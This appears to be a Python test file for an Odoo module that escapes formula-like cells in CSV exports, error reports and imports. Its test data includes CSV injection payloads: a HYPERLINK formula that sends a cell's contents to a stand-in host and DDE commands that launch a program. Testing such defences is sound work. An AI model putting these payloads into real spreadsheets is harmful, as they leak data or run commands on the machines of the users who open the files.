import csv
import io

from odoo.tests.common import BaseCase, tagged

from ..tools.client_export import write_csv
from ..tools.client_import import error_report, parse_row
from ..tools.spreadsheet import csv_safe, csv_unescape, is_formula_like, safe_csv_row

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@tagged("post_install", "-at_install")
class TestSpreadsheetCells(BaseCase):
    def test_formulas_get_an_apostrophe(self):
        for text in FORMULAS:
            with self.subTest(text=text):
                self.assertTrue(is_formula_like(text))
                self.assertEqual(csv_safe(text), "'" + text)
                self.assertEqual(csv_unescape(csv_safe(text)), text)

    def test_plain_text_numbers_and_phones_unchanged(self):
        for text in (
            "Anna",
            "",
            "+34612345678",
            "+1 (415) 555-0123",
            "-5",
            "-",
            "1990-01-01",
            "a=b",
            "'quoted",
        ):
            with self.subTest(text=text):
                self.assertFalse(is_formula_like(text))
                self.assertEqual(csv_safe(text), text)
                self.assertEqual(csv_unescape(text), text)
        self.assertEqual(safe_csv_row([3, None, "=1", "x"]), [3, None, "'=1", "x"])

    def test_export_csv_and_error_report_write_no_formula(self):
        content = write_csv(["Name", "Phone"], [[FORMULAS[0], "+34612345678"]])
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        self.assertEqual(rows[1], ["'" + FORMULAS[0], "+34612345678"])
        report = error_report([(2, "=bad", ["@evil()", "+34612345678"])], ["=Name", "Phone"])
        rows = list(csv.reader(io.StringIO(report.decode("utf-8-sig"))))
        self.assertEqual(rows[0], ["Row", "Reason", "'=Name", "Phone"])
        self.assertEqual(rows[1], ["2", "'=bad", "'@evil()", "+34612345678"])

    def test_import_reads_the_escaped_text_back(self):
        record, problems = parse_row(["'" + FORMULAS[0], "'-note"], ["name", "notes"])
        self.assertFalse(problems)
        self.assertEqual(record, {"name": FORMULAS[0], "notes": "-note"})
